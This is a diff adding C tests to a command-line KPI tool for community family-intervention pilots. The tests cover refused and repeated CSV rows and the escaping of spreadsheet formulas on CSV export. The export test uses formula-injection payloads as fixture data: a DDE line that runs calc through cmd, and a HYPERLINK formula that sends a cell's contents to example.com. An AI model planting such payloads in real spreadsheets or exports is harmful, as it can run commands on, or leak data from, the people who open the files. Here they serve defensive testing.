@@ -11,6 +11,11 @@
 
 #include "pg-test-util.h"
 
+#define CANNOCK_ROW "Cannock Chase,Chadsmoor & Western Springs Community Family Intervention Service,"
+#define WCFC_ROW CANNOCK_ROW "\"WCFC to work with 75 families not supported by any other agency, within 12 months\","
+#define CESS_ROW CANNOCK_ROW "\"CESS to work with 50 families not supported by any other agency, within 12 months\","
+#define COMMUNITY_ROW CANNOCK_ROW "Increase the number of families accessing community led early intervention,"
+
 typedef struct
 {
   char *dir;
@@ -429,6 +434,140 @@ test_import_csv (Fixture       *fixture,
   g_assert_cmpint (usage.status, ==, 2);
 }
 
+/* A file whose every row is refused saves nothing, and says so with a
+ * failure, --accept-valid or not. */
+static void
+test_import_csv_all_refused (Fixture       *fixture,
+                             gconstpointer  data)
+{
+  g_autofree char *csv = g_build_filename (fixture->dir, "refused.csv", NULL);
+  g_autoptr(GError) error = NULL;
+  g_auto(Run) create = run_cli (fixture, "--database", fixture->db, "--sample", NULL);
+  g_auto(Run) before = run_cli (fixture, "--database", fixture->db, "--list", NULL);
+  g_auto(Run) accepted = { 0, };
+  g_auto(Run) plain = { 0, };
+  g_auto(Run) after = { 0, };
+
+  g_assert_cmpint (create.status, ==, 0);
+  g_file_set_contents (csv,
+                       "district,pilot,kpi,period,value,note\r\n"
+                       "Tamworth,No such pilot,x,FY2016-Q4,1,\r\n"
+                       "Nowhere,Some pilot,y,FY2016-Q4,2,\r\n", -1, &error);
+  g_assert_no_error (error);
+
+  accepted = run_cli (fixture, "--database", fixture->db, "--import-csv", csv, "--accept-valid", NULL);
+  g_assert_cmpint (accepted.status, ==, 1);
+  g_assert_cmpstr (accepted.out, ==, "");
+  g_assert_nonnull (strstr (accepted.err, "Line 2: Tamworth has no pilot called “No such pilot”"));
+  g_assert_nonnull (strstr (accepted.err, "refused.csv: 2 rows refused and no valid row: nothing was saved.\n"));
+
+  plain = run_cli (fixture, "--database", fixture->db, "--import-csv", csv, NULL);
+  g_assert_cmpint (plain.status, ==, 1);
+  g_assert_nonnull (strstr (plain.err, "2 rows refused and no valid row: nothing was saved."));
+  g_assert_null (strstr (plain.err, "--accept-valid"));
+
+  after = run_cli (fixture, "--database", fixture->db, "--list", NULL);
+  g_assert_cmpstr (after.out, ==, before.out);
+}
+
+/* A KPI's quarter given twice: the second row is refused, and the words
+ * say so; the first is saved only when the valid rows are. */
+static void
+test_import_csv_repeated_row (Fixture       *fixture,
+                              gconstpointer  data)
+{
+  g_autofree char *csv = g_build_filename (fixture->dir, "twice.csv", NULL);
+  g_autoptr(GError) error = NULL;
+  g_auto(Run) create = run_cli (fixture, "--database", fixture->db, "--sample", NULL);
+  g_auto(Run) before = run_cli (fixture, "--database", fixture->db, "--list", NULL);
+  g_auto(Run) refused = { 0, };
+  g_auto(Run) unchanged = { 0, };
+  g_auto(Run) accepted = { 0, };
+  g_auto(Run) after = { 0, };
+
+  g_assert_cmpint (create.status, ==, 0);
+  g_file_set_contents (csv,
+                       "district,pilot,kpi,period,value,note\r\n"
+                       WCFC_ROW "FY2016-Q4,9,\r\n"
+                       WCFC_ROW "FY2016-Q4,10,\r\n", -1, &error);
+  g_assert_no_error (error);
+
+  refused = run_cli (fixture, "--database", fixture->db, "--import-csv", csv, NULL);
+  g_assert_cmpint (refused.status, ==, 1);
+  g_assert_nonnull (strstr (refused.err, "Line 3: line 2 already gives FY2016-Q4 for this KPI, and a "
+                                         "quarter may be given only once: this row is refused.\n"));
+  g_assert_null (strstr (refused.err, "only the first is used"));
+  g_assert_nonnull (strstr (refused.err, "1 row refused: nothing was saved."));
+  unchanged = run_cli (fixture, "--database", fixture->db, "--list", NULL);
+  g_assert_cmpstr (unchanged.out, ==, before.out);
+
+  accepted = run_cli (fixture, "--database", fixture->db, "--import-csv", csv, "--accept-valid", NULL);
+  g_assert_cmpint (accepted.status, ==, 0);
+  g_assert_cmpstr (accepted.out, ==, "Saved 1 value (1 new, 0 changed); 0 unchanged, 1 refused.\n");
+  after = run_cli (fixture, "--database", fixture->db, "--list", NULL);
+  g_assert_nonnull (strstr (after.out, "within 12 months\tcount\tincrease\t0 (October 2016)\t75\t31 October 2017\tFY2016-Q4\t9\n"));
+}
+
+/* Notes a spreadsheet would run as formulas reach the CSV export with an
+ * apostrophe before them, numbers as they are; the export read back is
+ * the same notes, and exported again the same file. */
+static void
+test_export_csv_formulas (Fixture       *fixture,
+                          gconstpointer  data)
+{
+  g_autofree char *csv = g_build_filename (fixture->dir, "notes.csv", NULL);
+  g_autofree char *out = g_build_filename (fixture->dir, "kpis.csv", NULL);
+  g_autofree char *again = g_build_filename (fixture->dir, "kpis again.csv", NULL);
+  g_autofree char *exported = NULL;
+  g_autofree char *exported_again = NULL;
+  g_autoptr(GError) error = NULL;
+  g_auto(Run) create = run_cli (fixture, "--database", fixture->db, "--sample", NULL);
+  g_auto(Run) notes = { 0, };
+  g_auto(Run) export = { 0, };
+  g_auto(Run) reimport = { 0, };
+  g_auto(Run) export_again = { 0, };
+
+  g_assert_cmpint (create.status, ==, 0);
+  /* The last note is marked in the file as a spreadsheet marks text: it
+   * is stored with one apostrophe. */
+  g_file_set_contents (csv,
+                       "district,pilot,kpi,period,value,note\r\n"
+                       WCFC_ROW "FY2016-Q4,9,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"\r\n"
+                       CESS_ROW "FY2016-Q4,4,+cmd|' /C calc'!A0\r\n"
+                       COMMUNITY_ROW "FY2016-Q4,7,@SUM(1+1)\r\n"
+                       WCFC_ROW "FY2016-Q3,5,''=Marked by hand\r\n", -1, &error);
+  g_assert_no_error (error);
+  notes = run_cli (fixture, "--database", fixture->db, "--import-csv", csv, NULL);
+  g_assert_cmpint (notes.status, ==, 0);
+
+  export = run_cli (fixture, "--database", fixture->db, "--export-csv", "--period", "FY2016-Q4",
+                    "--output", out, NULL);
+  g_assert_cmpint (export.status, ==, 0);
+  exported = read_file (out);
+  g_test_message ("%s", exported);
+  g_assert_nonnull (strstr (exported, ",FY2016-Q4,9,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\","));
+  g_assert_nonnull (strstr (exported, ",FY2016-Q4,4,'+cmd|' /C calc'!A0,"));
+  g_assert_nonnull (strstr (exported, ",FY2016-Q4,7,'@SUM(1+1),"));
+  g_assert_null (strstr (exported, ",=HYPERLINK"));
+  g_assert_null (strstr (exported, ",\"=HYPERLINK"));
+
+  /* Read back: every note the same, so nothing to save. */
+  reimport = run_cli (fixture, "--database", fixture->db, "--import-csv", out, NULL);
+  g_assert_cmpint (reimport.status, ==, 0);
+  g_assert_cmpstr (reimport.out, ==, "Saved 0 values (0 new, 0 changed); 3 unchanged, 0 refused.\n");
+
+  export_again = run_cli (fixture, "--database", fixture->db, "--export-csv", "--period", "FY2016-Q3",
+                          "--output", again, NULL);
+  g_assert_cmpint (export_again.status, ==, 0);
+  exported_again = read_file (again);
+  g_assert_nonnull (strstr (exported_again, ",FY2016-Q3,5,''=Marked by hand,"));
+  g_clear_pointer (&reimport.out, g_free);
+  g_clear_pointer (&reimport.err, g_free);
+  reimport = run_cli (fixture, "--database", fixture->db, "--import-csv", again, NULL);
+  g_assert_cmpint (reimport.status, ==, 0);
+  g_assert_nonnull (strstr (reimport.out, "Saved 0 values (0 new, 0 changed); "));
+}
+
 /* A lead's database sends a return; the office's merges it, and a
  * conflict with a value the office typed fails unless told otherwise. */
 static void
@@ -640,6 +779,9 @@ main (int   argc,
   ADD ("/cli/errors/usage", test_usage_errors);
   ADD ("/cli/errors/export-unwritable", test_export_unwritable);
   ADD ("/cli/import-csv", test_import_csv);
+  ADD ("/cli/import-csv/all-refused", test_import_csv_all_refused);
+  ADD ("/cli/import-csv/repeated-row", test_import_csv_repeated_row);
+  ADD ("/cli/export-csv/formulas", test_export_csv_formulas);
   ADD ("/cli/returns", test_returns);
   ADD ("/cli/copy-to/file", test_copy_to_file);
   ADD ("/cli/copy-to/existing", test_copy_to_existing);
